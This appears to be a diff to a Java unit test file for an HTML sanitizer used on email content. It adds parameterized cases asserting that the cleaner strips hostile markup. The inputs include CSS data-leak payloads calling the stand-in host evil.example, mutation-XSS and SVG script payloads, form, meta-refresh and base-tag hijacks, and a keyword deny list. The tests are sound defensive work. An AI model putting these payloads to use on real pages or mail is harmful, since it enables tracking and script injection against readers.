@@ -78,6 +78,61 @@ final class HtmlCleanerTest {
     @ParameterizedTest
     @ValueSource(
             strings = {
+                "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
+                "<style>@import 'https://evil.example/x.css';</style>",
+                "<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>",
+                "<p style=\"background:url(https://evil.example/p)\">x</p>",
+                "<p style=\"background:u\\72l(https://evil.example/p)\">x</p>",
+                "<p style=\"background-image:image-set('https://evil.example/p' 1x)\">x</p>",
+                "<p style=\"width:expression(alert(1))\">x</p>",
+                "<p style=\"content:attr(title)\">x</p>",
+                "<p style=\"list-style:url(//evil.example/p)\">x</p>",
+                "<p style=\"color:var(--x,url(https://evil.example/p))\">x</p>",
+                "<p style=\"behavior:url(#x);-moz-binding:url(https://evil.example/p)\">x</p>",
+                "<link rel=stylesheet href=https://evil.example/x.css>x",
+                "<table background=https://evil.example/p><tr><td background=https://evil.example/p>x</table>"
+            })
+    void stylesCanTellNobodyWhatIsRead(String html) {
+        assertThat(HtmlCleaner.clean(html).toLowerCase(Locale.ROOT))
+                .doesNotContain("evil", "url", "import", "expression", "attr(", "var(", "behavior", "binding");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "<svg onload=alert(1)><script>alert(1)</script><a xlink:href=javascript:alert(1)>x</a></svg>",
+                "<svg><style><img src=x onerror=alert(1)></style></svg>",
+                "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
+                "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+                "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+                "<form action=https://evil.example/><input name=x><button"
+                        + " formaction=javascript:alert(1)>x</button></form>",
+                "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+                "<base href=https://evil.example/>",
+                "<template><script>alert(1)</script></template>",
+                "<!--[if mso]><script>alert(1)</script><![endif]-->"
+            })
+    void nothingThatActsIsLeft(String html) {
+        assertThat(HtmlCleaner.clean(html).toLowerCase(Locale.ROOT))
+                .doesNotContain(
+                        "<svg",
+                        "<math",
+                        "<script",
+                        "<form",
+                        "<input",
+                        "<button",
+                        "<meta",
+                        "<base",
+                        "<iframe",
+                        "onerror=\"",
+                        "onload",
+                        "javascript",
+                        "evil");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
                 "<img src=\"javascript:alert(1)\">",
                 "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
                 "<img src=\"data:text/html;base64,PHN2Zz4=\">",
@@ -138,9 +193,8 @@ final class HtmlCleanerTest {
 
     @Test
     void markersOfQuotesStayAndOtherClassesGo() {
-        assertThat(
-                        HtmlCleaner.clean(
-                                "<div class=\"gmail_quote evil-overlay\" id=\"evil\"><blockquote type=\"cite\">x</blockquote></div>"))
+        assertThat(HtmlCleaner.clean("<div class=\"gmail_quote evil-overlay\" id=\"evil\"><blockquote"
+                        + " type=\"cite\">x</blockquote></div>"))
                 .isEqualTo("<div class=\"gmail_quote\"><blockquote type=\"cite\">x</blockquote></div>");
         assertThat(HtmlCleaner.clean("<div id=\"divRplyFwdMsg\">x</div>"))
                 .isEqualTo("<div id=\"divRplyFwdMsg\">x</div>");
